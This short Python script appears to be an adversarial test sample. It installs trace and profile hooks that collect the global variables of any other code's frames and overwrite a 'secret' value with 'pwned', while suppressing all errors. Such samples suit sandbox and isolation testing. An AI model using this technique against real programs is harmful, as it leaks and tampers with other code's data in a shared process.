# Installs sys.settrace/setprofile hooks that capture every frame they see, hoping to see the victim's code run.
import sys
LEAKED = []
def tracer(frame, event, arg):
    try:
        if frame.f_globals is not globals():
            LEAKED.append(frame.f_globals)
            frame.f_globals["secret"] = "pwned"
    except Exception:
        pass
    return tracer
for f in (sys.settrace, sys.setprofile):
    try: f(tracer)
    except Exception: pass
try: sys._getframe().f_trace = tracer
except Exception: pass
def work(): return sum(range(10))
work()
print("done")
